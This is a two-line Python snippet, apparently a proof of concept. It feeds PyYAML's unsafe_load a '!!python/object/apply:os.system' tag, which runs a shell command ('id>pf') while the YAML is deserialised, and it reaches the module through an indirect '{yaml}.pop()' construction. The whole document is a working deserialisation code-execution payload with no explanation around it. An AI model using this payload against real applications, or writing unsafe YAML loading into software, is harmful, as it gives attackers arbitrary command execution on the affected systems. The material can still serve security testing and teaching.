import yaml
{yaml}.pop().unsafe_load("!!python/object/apply:os.system ['id>pf']")
